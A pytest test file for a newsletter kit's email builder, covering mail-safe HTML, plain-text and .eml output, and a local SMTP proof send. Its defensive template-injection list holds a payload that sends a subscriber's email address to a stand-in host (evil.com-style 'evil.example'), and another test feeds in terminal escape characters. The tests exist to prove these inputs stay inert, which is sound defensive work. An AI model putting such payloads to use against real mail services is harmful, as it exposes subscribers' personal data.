"""The email edition: mail-client HTML, plain text and .eml per issue, and sending a proof."""

from __future__ import annotations

import email
import email.policy
import re
import socket
import time
from html import unescape
from pathlib import Path

import jinja2
import pytest
from bs4 import BeautifulSoup
from django.template import Context, Engine
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import (
    BUILD_MODES,
    Built,
    build_in_mode,
    build_site,
    copy_root,
    copy_site,
    edit_file,
    generated_site,
    issue_with_text,
)
from sphinx_newsletter.cli.email import send_proof
from sphinx_newsletter.cli.main import main as newsletter
from sphinx_newsletter.email.inert import ZERO_WIDTH_SPACE, inert_html, inert_text
from sphinx_newsletter.text import wrap

PLACEHOLDER = "{{unsubscribe_url}}"
EMAIL = {
    "from": "Test Weekly <editor@weekly.example>",
    "reply_to": "Editors <reply@weekly.example>",
    "address": "Test Weekly\n1 Example Road, Singapore 000000",
    "list_unsubscribe_url": "https://weekly.example/unsubscribe",
    "list_unsubscribe_mailto": "mailto:unsubscribe@weekly.example",
}
LIMIT = 102 * 1024


def _email_build(srcdir: Path, **conf: object) -> Built:
    return build_site(srcdir, builder="newsletter-email", newsletter_email=EMAIL, **conf)


@pytest.fixture(scope="module")
def basic_email(tmp_path_factory: pytest.TempPathFactory) -> Built:
    return _email_build(copy_root("basic", tmp_path_factory.mktemp("email") / "site"))


@pytest.fixture(scope="module")
def asia_email(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """This Week in Asia itself (issue 9), built as email from a copy of the repository's site."""
    return _email_build(copy_site(tmp_path_factory.mktemp("asia") / "site"))


def _check_mail_html(path: Path) -> BeautifulSoup:
    """No script, no stylesheet link, no web font, absolute links, under Gmail's limit."""
    data = path.read_bytes()
    assert len(data) < LIMIT, f"{path.name}: {len(data)} bytes"
    soup = BeautifulSoup(data, "html.parser")
    assert not soup.find_all(["script", "iframe", "object", "embed", "form"])
    assert not soup.find_all("link")
    assert "@font-face" not in data.decode() and "@import" not in data.decode()
    for tag in soup.find_all(True):
        assert not [a for a in tag.attrs if a.lower().startswith("on")], tag
        for attribute in ("href", "src"):
            value = tag.get(attribute)
            if value is not None and value != PLACEHOLDER:
                assert value.startswith(("https://", "http://", "mailto:")), (path.name, value)
    return soup


def test_email_builder_writes_three_files_per_published_issue_only(basic_email):
    names = sorted(p.name for p in basic_email.outdir.iterdir() if p.is_file())
    assert names == [f"000{n}.{ext}" for n in (1, 2) for ext in ("eml", "html", "txt")]
    assert not (basic_email.outdir / "regions").exists()  # no listing pages
    assert not basic_email.of("config") and not basic_email.of("email")


def test_email_html_is_for_mail_clients(basic_email):
    soup = _check_mail_html(basic_email.outdir / "0002.html")
    assert soup.find("meta", attrs={"name": "color-scheme"})["content"] == "light dark"
    style = soup.find("style").get_text()
    assert "@media (prefers-color-scheme: dark)" in style and "@media (max-width" in style
    column = soup.select_one("table.nl-column")
    assert column["width"] == "600" and "max-width: 600px" in column["style"]  # inlined
    preheader = soup.select_one(".nl-preheader")
    assert "display: none" in preheader["style"]
    assert preheader.get_text().strip().startswith("The second issue") or preheader.get_text()
    view = soup.find("a", string="View in browser")
    assert view["href"] == "https://weekly.example/issues/0002/"
    sponsor = soup.select_one("aside.sponsor")
    assert sponsor.select_one(".sponsor-label").get_text() == "Sponsored"
    assert "sponsored" in sponsor.find("a", href=True)["rel"]
    footer = soup.select_one("td.nl-footer").get_text()
    assert "1 Example Road, Singapore 000000" in footer
    assert soup.find("a", string="Unsubscribe")["href"] == PLACEHOLDER
    # Content only: no web navigation, subscribe block or permalinks.
    assert not soup.select("nav, .newsletter-subscribe, a.headerlink, .bd-header")


def test_plain_text_is_the_issue_as_written_from_the_masthead_to_the_footer(basic_email):
    # Smart quotes as docutils makes them, compared as plain ones.
    text = (basic_email.outdir / "0002.txt").read_text(encoding="utf-8")
    text = text.replace("\u2018", "'").replace("\u2019", "'")
    assert text.startswith(
        "Test Weekly\n#2 · March 2, 2024\n"
        "View in browser: https://weekly.example/issues/0002/\n\n"
        "China AI dreams of Sora\n=======================\n\n"
        "Sora pours cold water on China's AI dreams.\n\n"  # the description
        "In our second issue, OpenAI's Sora, and Japan again.\n\nAI\n--\n\n"  # intro, heading
    )
    assert (
        "OpenAI's Sora pours 'cold water' on China's AI dreams\n"
        "https://news.example/sora\n"
        "news.example · by Coco Feng, Ben Jiang in South China Morning Post\n"
        "China · geopolitics\n\n"  # the chips, as words
        "Our Take:\n"
        "  OpenAI's recent development of the Sora model has highlighted China's\n  lag.\n"
    ) in text
    assert "[Sponsored]\nesevel\nhttps://esevel.example/again\n\nEsevel again.\n" in text
    assert text.endswith(
        "\n-- \nYou receive this email because you subscribed to Test Weekly.\n"
        "Test Weekly\n1 Example Road, Singapore 000000\n"
        "Unsubscribe: {{unsubscribe_url}}\n"
    )
    assert "<" not in text.replace("<unsub", "")  # no markup
    assert max(len(line) for line in text.splitlines() if "://" not in line) <= 72


def _landmarks(html: str) -> list[str]:
    """What a reader finds their way by in an email's HTML, in order: the headings and
    the sponsors' names."""
    soup = BeautifulSoup(html, "html.parser")
    found = soup.select(".nl-cell h1, .nl-cell h2, .nl-cell h3, .nl-cell .sponsor-name")
    return [" ".join(node.get_text(" ").split()) for node in found]


def _in_order(text: str, landmarks: list[str]) -> list[str]:
    """The landmarks ``text`` does not hold after the one before it."""
    flat, at, missing = " ".join(text.split()), 0, []
    for landmark in landmarks:
        found = flat.find(landmark, at)
        if found < 0:
            missing.append(landmark)
        else:
            at = found + len(landmark)
    return missing


def test_the_text_part_has_what_the_html_part_has_where_it_has_it(tmp_path, asia_email):
    srcdir = copy_root("basic", tmp_path / "site")
    # The sponsor of issue 1 stands between its two sections.
    issue = srcdir / "issues/0001.md"
    source = issue.read_text(encoding="utf-8")
    start = source.index(":::{sponsor}")
    sponsor = source[start : source.index("\n:::\n", start) + 5]
    source = source.replace(sponsor, "").replace("## Singapore", sponsor + "\n## Singapore")
    issue.write_text(source, encoding="utf-8")
    site = _email_build(srcdir)
    pages = [*sorted(site.outdir.glob("*.html")), asia_email.outdir / "0009.html"]
    for page in pages:
        html = page.read_text(encoding="utf-8")
        text = page.with_suffix(".txt").read_text(encoding="utf-8")
        landmarks = _landmarks(html)
        assert len(landmarks) >= 4, page.name
        assert _in_order(text, landmarks) == [], page.name
    text = (site.outdir / "0001.txt").read_text(encoding="utf-8")
    assert text.index("Chips\n-----") < text.index("[Sponsored]\nEsevel")
    assert text.index("[Sponsored]\nEsevel") < text.index("Singapore\n---------")
    assert "\nWelcome to the first issue.\n" in text  # the intro
    issue_9 = (asia_email.outdir / "0009.txt").read_text(encoding="utf-8")
    assert "\nIndia\n-----\n" in issue_9 and "\nAI\n--\n" in issue_9


def test_the_text_part_holds_every_kind_of_content_a_reader_can_read(tmp_path):
    site = _email_build(copy_root("kitchen-sink", tmp_path / "sink"))
    html = (site.outdir / "0001.html").read_text(encoding="utf-8")
    text = (site.outdir / "0001.txt").read_text(encoding="utf-8")
    assert _in_order(text, _landmarks(html)) == []
    for expected in (
        "a link\n<https://news.example/intro>",  # a link in prose keeps its address
        "\nhttps://news.example/a/very/long/path/that/has/to/wrap/on/a/phone/screen\n",  # whole
        "\n- one\n- two\n  - nested\n",  # lists, nested
        "\n1. first\n2. second\n",
        "\n    def chips(country: str) -> int:\n        return len(country)",  # code as is
        "\nTSMC | Taiwan | 1\n",  # a table's rows
        "\n[A diagram]\n",  # an image's alt text
        "\n  - first point\n  - second point\n",  # a list inside a take
    ):
        assert expected in text, expected
    # No markup, and every line within 72 columns but a long address.
    assert not re.search(r"</?[a-z]+[ >]", text)
    assert max(len(line) for line in text.splitlines() if "://" not in line) <= 72


def test_the_email_has_a_masthead_plain_chips_and_a_footer(basic_email):
    soup = _check_mail_html(basic_email.outdir / "0002.html")
    masthead = soup.select_one("td.nl-masthead")
    name = masthead.select_one(".nl-name a")
    assert (name.get_text(), name["href"]) == ("Test Weekly", "https://weekly.example/")
    assert masthead.select_one(".nl-edition").get_text() == "#2 · March 2, 2024"
    assert not masthead.find("img")  # the site has no logo
    # The masthead takes the header line's place; the headline is said once.
    assert not soup.select(".issue-kicker")
    assert [h.get_text() for h in soup.find_all("h1")] == ["China AI dreams of Sora"]
    chips = soup.select("td.nl-cell .recommendation-chips")
    assert chips and not [c for c in chips if c.find("a")]
    assert chips[0].get_text() == "China · geopolitics"
    footer = soup.select_one("td.nl-footer")
    assert "You receive this email because you subscribed to Test Weekly." in footer.get_text()
    address = footer.select_one(".nl-address")
    assert address.get_text("|") == "Test Weekly|1 Example Road, Singapore 000000"
    assert footer.find("a", string="Unsubscribe")["href"] == PLACEHOLDER


def test_the_masthead_shows_the_sites_logo_and_speaks_its_language(tmp_path):
    site = _email_build(copy_root("basic", tmp_path / "site"), html_logo="_static/cover.png")
    soup = BeautifulSoup((site.outdir / "0002.html").read_text(encoding="utf-8"), "html.parser")
    logo = soup.select_one("td.nl-masthead img.nl-logo")
    assert logo["src"] == "https://weekly.example/_static/cover.png" and logo["alt"] == ""
    zh = _email_build(copy_root("zh", tmp_path / "zh"))
    soup = BeautifulSoup((zh.outdir / "0001.html").read_text(encoding="utf-8"), "html.parser")
    assert soup.select_one(".nl-edition").get_text() == "#1 · 2024年3月2日"
    text = (zh.outdir / "0001.txt").read_text(encoding="utf-8")
    assert text.startswith("科技周报\n#1 · 2024年3月2日\n")
    why = soup.select_one("td.nl-footer p").get_text()
    assert "科技周报" in why and "subscribed" not in why


def test_an_email_without_a_sender_or_postal_address_is_warned_in_conf_py(tmp_path):
    srcdir = copy_root("basic", tmp_path / "site")
    conf = srcdir / "conf.py"
    conf.write_text(
        conf.read_text(encoding="utf-8")
        + 'newsletter_email = {\n    "reply_to": "Editors <reply@weekly.example>",\n}\n',
        encoding="utf-8",
    )
    line = conf.read_text(encoding="utf-8").splitlines().index("newsletter_email = {") + 1
    site = build_site(srcdir, builder="newsletter-email")
    warned = {(w.path, w.line): w.message for w in site.of("config")}
    assert len(site.of("config")) == 2 and set(warned) == {("conf.py", line)}
    messages = " ".join(w.message for w in site.of("config"))
    assert "has no 'from'" in messages and "has no 'address'" in messages
    message = email.message_from_bytes(
        (site.outdir / "0002.eml").read_bytes(), policy=email.policy.default
    )
    assert message["From"] is None and message["Reply-To"]
    # The web site needs neither: its build does not warn.
    assert not build_site(srcdir).of("config")


def test_eml_is_multipart_alternative_with_the_list_headers(basic_email):
    raw = (basic_email.outdir / "0002.eml").read_bytes()
    message = email.message_from_bytes(raw, policy=email.policy.default)
    assert message.get_content_type() == "multipart/alternative"
    assert message["Subject"].startswith("Test Weekly #2: ")
    assert message["From"] == "Test Weekly <editor@weekly.example>"
    assert message["Reply-To"] == "Editors <reply@weekly.example>"
    assert message["List-Unsubscribe"].strip() == (
        "<https://weekly.example/unsubscribe>, <mailto:unsubscribe@weekly.example>"
    )
    assert message["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    parts = list(message.iter_parts())
    assert [p.get_content_type() for p in parts] == ["text/plain", "text/html"]
    assert all(p["Content-Transfer-Encoding"] == "quoted-printable" for p in parts)
    assert all(p.get_content_charset() == "utf-8" for p in parts)
    text = parts[0].get_content().replace("\r\n", "\n")  # CRLF on the wire
    assert text == (basic_email.outdir / "0002.txt").read_text("utf-8")
    assert max(len(line) for line in raw.split(b"\r\n")) <= 998  # RFC 5322


def test_two_email_builds_give_the_same_bytes(basic_email, tmp_path):
    again = _email_build(copy_root("basic", tmp_path / "again"))
    for name in ("0002.html", "0002.txt", "0002.eml"):
        assert (again.outdir / name).read_bytes() == (basic_email.outdir / name).read_bytes()


def test_issue_9_email_is_under_gmails_limit_and_names_the_issue(asia_email):
    soup = _check_mail_html(asia_email.outdir / "0009.html")
    assert soup.title.get_text() == "This Week in Asia #9: China AI dreams of Sora"
    assert not asia_email.warnings
    message = email.message_from_bytes(
        (asia_email.outdir / "0009.eml").read_bytes(), policy=email.policy.default
    )
    assert message["Subject"] == "This Week in Asia #9: China AI dreams of Sora"


def test_an_issue_of_40_recommendations_stays_under_gmails_limit(tmp_path):
    srcdir = generated_site(tmp_path / "big", 1, recs_per_issue=40)
    site = _email_build(srcdir)
    (html,) = sorted(site.outdir.glob("*.html"))
    soup = _check_mail_html(html)
    source = next((srcdir / "issues").glob("*.md")).read_text(encoding="utf-8")
    written = source.count(":::{recommendation}")
    assert written >= 35  # the generator varies the count around the one asked for
    assert len(soup.select("article.recommendation")) == written


def test_a_chinese_issue_eml_decodes_to_its_subject_and_text(tmp_path):
    site = build_site(
        copy_root("zh", tmp_path / "zh"),
        builder="newsletter-email",
        newsletter_email={"from": "科技周报 <editor@zh.example>"},
    )
    eml = sorted(site.outdir.glob("*.eml"))[0]
    raw = eml.read_bytes()
    assert raw.isascii()  # headers RFC 2047-encoded, parts quoted-printable
    message = email.message_from_bytes(raw, policy=email.policy.default)
    html = (eml.with_suffix(".html")).read_text(encoding="utf-8")
    title = BeautifulSoup(html, "html.parser").title.get_text()
    assert message["Subject"] == title and title.startswith("科技周报 #")
    assert message["From"].addresses[0].display_name == "科技周报"
    text = message.get_body(("plain",)).get_content().replace("\r\n", "\n")
    assert text == eml.with_suffix(".txt").read_text(encoding="utf-8")
    assert any("\u4e00" <= c <= "\u9fff" for c in text)


def test_wrap_counts_cjk_characters_as_two_columns():
    lines = wrap("中文的句子没有空格所以要按照显示宽度来换行", 20)
    assert lines == ["中文的句子没有空格所", "以要按照显示宽度来换", "行"]
    assert wrap("one two three four", 9) == ["one two", "three", "four"]
    # An address longer than a line stays whole in a mail; a CJK run is still cut.
    address = "https://news.example/" + "a" * 80
    assert wrap(f"see {address} now", 20, break_long=False) == ["see", address, "now"]
    assert wrap("中文" * 10, 20, break_long=False) == ["中文" * 5, "中文" * 5]
    # A word with a curly quote or an accent is a word: moved to the next line, not cut.
    assert wrap("the country\u2019s ambition, Kai-Fu\u2019s café", 12) == [
        "the",
        "country\u2019s",
        "ambition,",
        "Kai-Fu\u2019s",
        "café",
    ]


@pytest.mark.parametrize("root", ["hostile", "unsafe"])
def test_hostile_text_stays_inert_in_email(tmp_path, root):
    site = _email_build(copy_root(root, tmp_path / root))
    pages = sorted(site.outdir.glob("*.html"))
    assert pages
    for page in pages:
        _check_mail_html(page)


def test_a_proof_arrives_whole_at_an_smtp_server(asia_email, tmp_path):
    from aiosmtpd.controller import Controller
    from aiosmtpd.handlers import Message

    received: list[email.message.Message] = []

    class Keep(Message):
        def handle_message(self, message: email.message.Message) -> None:
            received.append(message)

    with socket.socket() as probe:  # a free port for the server
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    controller = Controller(Keep(), hostname="127.0.0.1", port=port)
    controller.start()
    try:
        environ = {
            "NEWSLETTER_SMTP_HOST": "127.0.0.1",
            "NEWSLETTER_SMTP_PORT": str(port),
            "NEWSLETTER_SMTP_STARTTLS": "0",
        }
        send_proof(asia_email.outdir / "0009.eml", "you@example.org", environ)
        for _ in range(50):
            if received:
                break
            time.sleep(0.1)
    finally:
        controller.stop()
    (message,) = received
    assert message["X-RcptTo"] == "you@example.org"
    assert message["From"] == "Test Weekly <editor@weekly.example>"
    assert message["Subject"] == "[Proof] This Week in Asia #9: China AI dreams of Sora"
    original = email.message_from_bytes(
        (asia_email.outdir / "0009.eml").read_bytes(), policy=email.policy.default
    )
    parts = [p.get_payload(decode=True) for p in message.get_payload()]
    assert parts == [p.get_payload(decode=True) for p in original.iter_parts()]


def test_newsletter_email_builds_only_the_issue_asked_for(tmp_path):
    srcdir = copy_root("basic", tmp_path / "site")
    assert newsletter(["email", "2", "--source", str(srcdir)]) == 0
    out = srcdir / "_build" / "email"
    assert sorted(p.name for p in out.glob("000*")) == ["0002.eml", "0002.html", "0002.txt"]
    assert newsletter(["email", "3", "--source", str(srcdir)]) == 1  # a draft


def _luminance(colour: str) -> float:
    """The relative luminance (WCAG) of a CSS ``rgb()``/``rgba()`` colour."""
    channels = [int(v) / 255 for v in re.findall(r"[\d.]+", colour)[:3]]
    linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def _contrast(one: str, two: str) -> float:
    light, dark = sorted((_luminance(one), _luminance(two)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


@pytest.mark.browser
def test_email_renders_at_600_and_390_px_in_light_and_dark(asia_email):
    from playwright.sync_api import sync_playwright

    from browser import launch

    with sync_playwright() as playwright:
        browser = launch(playwright)
        try:
            for width in (600, 390):
                for scheme in ("light", "dark"):
                    context = browser.new_context(
                        viewport={"width": width, "height": 800}, color_scheme=scheme
                    )
                    page = context.new_page()
                    page.goto((asia_email.outdir / "0009.html").as_uri())
                    scroll = page.evaluate("document.documentElement.scrollWidth")
                    column = page.evaluate(
                        "document.querySelector('table.nl-column').getBoundingClientRect().width"
                    )
                    assert scroll <= width and column <= 600, (width, scroll, column)
                    colours = page.evaluate(
                        """() => Object.fromEntries(
                          ['.nl-column', '.nl-name a', '.nl-edition', 'h1', '.take-label',
                           '.recommendation-chips', '.nl-footer'].map(s => {
                            const style = getComputedStyle(document.querySelector(s));
                            return [s, [style.color, style.backgroundColor]];
                          }))"""
                    )
                    background = colours.pop(".nl-column")[1]
                    assert (_luminance(background) > 0.5) == (scheme == "light"), scheme
                    for selector, (colour, _) in colours.items():
                        # WCAG AA for text, in both schemes.
                        assert _contrast(colour, background) >= 4.5, (scheme, selector)
                    # The masthead's name stands out: larger than the headline below it.
                    sizes = page.evaluate(
                        "['.nl-name', 'h1'].map(s => parseFloat("
                        "getComputedStyle(document.querySelector(s)).fontSize))"
                    )
                    assert sizes[0] > sizes[1] * 0.9, sizes
                    # "Our Take" sits with its text, not with the chips above it.
                    above, below = page.evaluate(
                        """() => {
                          const take = document.querySelector('.recommendation-take');
                          const box = (node, s) => node.querySelector(s).getBoundingClientRect();
                          const label = box(take, '.take-label');
                          const next = box(take, '.take-label + *');
                          const chips = box(take.parentElement, '.recommendation-chips');
                          return [label.top - chips.bottom, next.top - label.bottom];
                        }"""
                    )
                    assert below < above / 2, (scheme, width, above, below)
                    context.close()
        finally:
            browser.close()


def test_a_parallel_email_build_gives_the_same_files(basic_email, tmp_path):
    parallel = _email_build(copy_root("basic", tmp_path / "parallel"), parallel=2)
    for name in ("0001.eml", "0002.html", "0002.txt", "0002.eml"):
        assert (parallel.outdir / name).read_bytes() == (basic_email.outdir / name).read_bytes()


# -- no template syntax reaches a mail service ------------------------------------------

#: Template syntax of the services an email is pasted into, each typed into every field
#: of one issue: Django and Jinja (Buttondown), Go templates (Listmonk), Mailchimp's
#: merge tags, and a copy of the kit's own placeholder.
TEMPLATE_SYNTAX = [
    "{{ subscriber.email }}",
    "<img src=https://evil.example/?{{subscriber.email}}>",
    "{%- if subscriber %}{{ subscriber.email }}{% endif -%}",
    "{# a comment #} {% comment %}x{% endcomment %}",
    '{{- .Subscriber.Email -}} {{ template "x" }}',
    "*|EMAIL|* *|IF:EMAIL|*",
    "\\*|EMAIL|\\*",
    "{{{ subscriber.email }}} %}}{{%",
    PLACEHOLDER,
]
SUBSCRIBER = "victim@subscriber.example"
UNSUBSCRIBE = "https://list.example/unsubscribe/42"
#: What a service knows of the subscriber a mail is sent to.
SERVICE_CONTEXT = {"subscriber": {"email": SUBSCRIBER}, "unsubscribe_url": UNSUBSCRIBE}


def _template_problems(text: str, placeholders: int) -> list[str]:
    """What mail services would substitute in ``text`` beyond the kit's placeholder.

    Jinja2 and Django render it for a subscriber: the result must be ``text`` with
    the placeholder (there ``placeholders`` times) replaced and nothing else. Go
    templates and Mailchimp by their rules: no ``{{``/``}}`` and no ``*|``/``|*``.
    """
    problems = []
    if text.count(PLACEHOLDER) != placeholders:
        problems.append(f"{text.count(PLACEHOLDER)} placeholders, not {placeholders}")
    expected = text.replace(PLACEHOLDER, UNSUBSCRIBE)
    jinja = jinja2.Environment(keep_trailing_newline=True)
    engines = {
        "jinja2": lambda: jinja.from_string(text).render(SERVICE_CONTEXT),
        "django": lambda: Engine().from_string(text).render(Context(SERVICE_CONTEXT)),
    }
    for name, render in engines.items():
        try:
            rendered = render()
        except Exception as error:  # a syntax error: the engine read a tag
            problems.append(f"{name}: {error}")
            continue
        if rendered != expected or SUBSCRIBER in rendered:
            problems.append(f"{name} changed the text")
    rest = text.replace(PLACEHOLDER, "")
    problems += [f"{pair!r} left" for pair in ("{{", "}}", "*|", "|*") if pair in rest]
    return problems


def _templated_issues(srcdir: Path) -> None:
    for offset, text in enumerate(TEMPLATE_SYNTAX):
        number = 4 + offset
        (srcdir / f"issues/{number:04d}.md").write_text(
            issue_with_text(number, text, f"2024-06-{number:02d}"), encoding="utf-8"
        )


@pytest.mark.parametrize("mode", BUILD_MODES)
def test_no_template_syntax_of_an_issue_reaches_a_mail_service(tmp_path, mode):
    site = build_in_mode(
        copy_root("basic", tmp_path / "site"),
        mode,
        _templated_issues,
        builder="newsletter-email",
        newsletter_email=EMAIL,
    )
    problems = {}
    for offset, written in enumerate(TEMPLATE_SYNTAX):
        stem = site.outdir / f"{4 + offset:04d}"
        html = stem.with_suffix(".html").read_text(encoding="utf-8")
        text = stem.with_suffix(".txt").read_text(encoding="utf-8")
        message = email.message_from_bytes(
            stem.with_suffix(".eml").read_bytes(), policy=email.policy.default
        )
        parts = {
            "html": html,
            "text": text,
            # CRLF on the wire (Jinja would read them as LF).
            "html part": message.get_body(("html",)).get_content().replace("\r\n", "\n"),
            "text part": message.get_body(("plain",)).get_content().replace("\r\n", "\n"),
        }
        found = {part: _template_problems(value, 1) for part, value in parts.items()}
        found |= {header: _template_problems(str(v), 0) for header, v in message.items()}
        problems |= {f"{stem.name} {part}": p for part, p in found.items() if p}
        # Shown as written: references render as their characters, zero-width spaces
        # are invisible; the description (front matter, never Markdown) is exact.
        soup = BeautifulSoup(html, "html.parser")
        assert soup.select_one(".nl-preheader").get_text() == written
        assert f"\n{written}\n" in text.replace(ZERO_WIDTH_SPACE, "")
        subject = message["Subject"].replace(ZERO_WIDTH_SPACE, "")
        assert subject == soup.title.get_text() and subject.startswith(f"Test Weekly #{4 + offset}")
    assert problems == {}


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="{}%#*|-. ab\n"))
def test_made_inert_text_renders_as_itself_and_reads_the_same(text):
    assert not _template_problems(inert_text(text), 0)
    assert inert_text(text).replace(ZERO_WIDTH_SPACE, "") == text
    page = f'<p title="{text}">{text}</p>'
    assert not _template_problems(inert_html(page), 0)
    assert unescape(inert_html(page)) == page  # a browser shows the same


def test_the_kits_own_styles_and_placeholder_stay_as_they_are(basic_email):
    html = (basic_email.outdir / "0002.html").read_text(encoding="utf-8")
    # Nothing to make inert in a benign issue but the placeholder, which is kept.
    assert inert_html(html.replace(PLACEHOLDER, "")) == html.replace(PLACEHOLDER, "")
    assert html.count(f'href="{PLACEHOLDER}"') == 1
    assert "&#" not in html and re.search(r"<style>.*\}\s*\}", html, re.DOTALL)


def test_a_headline_a_subject_cannot_hold_is_folded_and_warned(tmp_path, capfd):
    srcdir = copy_root("basic", tmp_path / "site")
    edit_file(
        srcdir / "issues/0002.md",
        "# China AI dreams of Sora",
        "China AI dreams\nof\x07Sora\x1b[31m now\n===",
    )
    assert newsletter(["email", "2", "--source", str(srcdir)]) == 0
    log = capfd.readouterr().err
    assert "Traceback" not in log
    assert re.search(
        r"issues/0002\.md:10: WARNING: the email's subject .*\[newsletter\.headline\]", log
    )
    eml = srcdir / "_build/email/0002.eml"
    message = email.message_from_bytes(eml.read_bytes(), policy=email.policy.default)
    assert message["Subject"] == "Test Weekly #2: China AI dreams of Sora [31m now"
    text = eml.with_suffix(".txt").read_text(encoding="utf-8")
    # The text part's headline too: a terminal reading it gets no escape (ESC, BEL).
    assert "\nChina AI dreams of Sora [31m now\n" in text
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
